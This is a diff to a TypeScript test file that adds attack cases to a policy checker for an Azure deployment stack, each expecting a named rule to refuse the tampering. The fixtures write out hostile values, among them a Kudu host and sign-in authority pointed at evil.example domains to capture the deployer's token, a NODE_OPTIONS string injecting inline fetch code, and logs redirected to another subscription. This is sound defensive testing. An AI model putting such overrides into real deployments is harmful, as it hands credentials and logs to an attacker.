@@ -36,6 +36,11 @@ const OTHER_TENANT = "11111111-2222-4333-8444-555555555555";
 const roleId = (guid: string) =>
   `/subscriptions/${SUBSCRIPTION_ID}/providers/Microsoft.Authorization/roleDefinitions/${guid}`;
 const OWNER = "8e3af657-a8ff-443c-a75c-2fe8c4bcb635";
+/** The stack's command running `deploy/<script>.ts`. */
+const deployStep = (rs: RegisteredResource[], script: string) =>
+  rs.find((r) => r.type === T.command && r.inputs.create === `node --import tsx deploy/${script}.ts`)!;
+/** The same ARM ID in a subscription this stack does not deploy into. */
+const otherSubscription = (id: string) => id.replace(SUBSCRIPTION_ID, "99999999-2222-4333-8444-555555555555");
 
 interface Shape {
   shape: string;
@@ -366,6 +371,69 @@ const fromIssue: Shape[] = [
 ];
 
 const fromAttacks: Shape[] = [
+  // Command steps, second look: the script is the project's, but its environment says where the deployer's token goes.
+  {
+    shape: "the deploy step's Kudu host pointed at another site, which would receive the deployer's token",
+    add: (rs) =>
+      edit(deployStep(rs, "one-deploy"), (p) => (p.environment.DEPLOY_SCM_HOST = "evil.scm.azurewebsites.net")),
+    refusedBy: [
+      [
+        "command-targets-own-resources",
+        /Command ".*" sends the deployer's token to DEPLOY_SCM_HOST "evil\.scm\.azurewebsites\.net", not the Kudu/,
+      ],
+    ],
+  },
+  {
+    shape: "NODE_OPTIONS in a deploy step's environment, loading inline code into the project's script",
+    add: (rs) =>
+      edit(deployStep(rs, "one-deploy"), (p) => {
+        p.environment.NODE_OPTIONS = "--import=data:text/javascript,fetch('https://evil.example')";
+      }),
+    refusedBy: [
+      ["command-runs-project-script", /Command ".*" sets environment variable "NODE_OPTIONS", which .* does not read/],
+    ],
+  },
+  {
+    shape: "an identity library setting in a deploy step's environment, sending the sign-in elsewhere",
+    add: (rs) =>
+      edit(deployStep(rs, "one-deploy"), (p) => (p.environment.AZURE_AUTHORITY_HOST = "https://login.evil.example")),
+    refusedBy: [["command-runs-project-script", /sets environment variable "AZURE_AUTHORITY_HOST"/]],
+  },
+  {
+    shape: "the deploy step asking for a token of another audience than the cloud's",
+    add: (rs) =>
+      edit(deployStep(rs, "one-deploy"), (p) => (p.environment.DEPLOY_ARM_SCOPE = "https://evil.example/.default")),
+    refusedBy: [
+      ["command-runs-project-script", /has DEPLOY_ARM_SCOPE "https:\/\/evil\.example\/\.default", not a cloud/],
+    ],
+  },
+  {
+    shape: "the readiness wait pointed at a host that always answers ready, faking the proof",
+    add: (rs) => edit(deployStep(rs, "wait-ready"), (p) => (p.environment.READY_HOST = "always-ready.example")),
+    refusedBy: [["command-targets-own-resources", /waits on READY_HOST "always-ready\.example", not a host of/]],
+  },
+  // Telemetry (issue 23), second look: the stack's own workspace's group and name, in a subscription the attacker owns.
+  {
+    shape: "the web app's platform logs sent to a same-named workspace in another subscription",
+    add: (rs) => edit(one(rs, T.diagnosticSetting), (p) => (p.workspaceId = otherSubscription(String(p.workspaceId)))),
+    refusedBy: [
+      [
+        "diagnostic-setting-own-workspace",
+        /DiagnosticSetting ".*" has workspaceId "\/subscriptions\/99999999-[^"]*", not a Log Analytics workspace of/,
+      ],
+    ],
+  },
+  {
+    shape: "Application Insights kept in a same-named workspace in another subscription",
+    add: (rs) =>
+      edit(one(rs, T.appInsights), (p) => (p.workspaceResourceId = otherSubscription(String(p.workspaceResourceId)))),
+    refusedBy: [
+      [
+        "appinsights-workspace-based",
+        /Component ".*" has workspaceResourceId "\/subscriptions\/99999999-[^"]*", not a Log Analytics workspace/,
+      ],
+    ],
+  },
   // Container Apps (issue 21): a second container app, registry or environment slipped beside the stack's own.
   {
     shape: "a container app pulling a public image with a registry password and a system-assigned identity",
